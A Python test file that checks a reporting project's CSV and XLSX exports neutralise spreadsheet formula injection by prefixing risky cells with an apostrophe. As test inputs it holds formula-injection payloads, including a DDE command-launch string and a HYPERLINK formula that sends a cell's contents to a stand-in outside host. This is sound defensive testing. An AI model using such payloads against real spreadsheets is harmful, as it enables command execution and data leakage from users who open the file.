"""CSV exports neutralise cells a spreadsheet would run as a formula.

A campaign title, a receipt note or an actor name is typed by someone; opened in Excel or
LibreOffice, a cell beginning with = + - @ (or a tab or carriage return, which some
spreadsheets skip before the formula sign) runs as a formula (`=HYPERLINK(...)`,
`=cmd|' /C calc'!A0`). Every CSV bantin writes prefixes such a cell with an apostrophe.
"""

from __future__ import annotations

import csv
import io

import pytest

from bantin.csvsafe import safe_cell
from bantin.records.reports.document import Column, Report, Table
from bantin.records.reports.formats import to_csv

HOSTILE = ["=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", '=HYPERLINK("http://x")']


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_like_text_gets_an_apostrophe(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Xã Cái Nhum", "", "a=b", 5, -5, 2.5, None, "2026-12-03"])
def test_other_values_are_left_alone(value: object) -> None:
    assert safe_cell(value) == value


def test_report_csv_neutralises_cells_and_headers() -> None:
    table = Table(
        name="t",
        title="T",
        columns=[Column("name", "=label"), Column("count", "Số", "int")],
        rows=[{"name": "=cmd|' /C calc'!A0", "count": -3}, {"name": "Bến Tre", "count": 4}],
    )
    report = Report(kind="k", lang="vi", title="R", facts=[], tables=[table])
    rows = list(csv.reader(io.StringIO(to_csv(report).decode("utf-8-sig"))))
    assert rows == [
        ["'=label", "Số"],
        ["'=cmd|' /C calc'!A0", "-3"],
        ["Bến Tre", "4"],
    ]


def test_xlsx_text_that_looks_like_a_formula_stays_text() -> None:
    """openpyxl would store `=HYPERLINK(…)` typed in a note as a live formula."""
    import io

    from openpyxl import load_workbook

    from bantin.records.reports.document import Column, Report, Table
    from bantin.records.reports.xlsx import to_xlsx

    evil = '=HYPERLINK("http://x.example/?q="&A1,"bấm")'
    report = Report(
        kind="output",
        lang="vi",
        title="Sản lượng",
        facts=[("Ghi chú", evil)],
        tables=[Table("bang", "Bảng", [Column("note", "Ghi chú", "text")], [{"note": evil}])],
    )
    wb = load_workbook(io.BytesIO(to_xlsx(report)))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value == evil]
    assert len(cells) == 2 and all(c.data_type == "s" for c in cells)
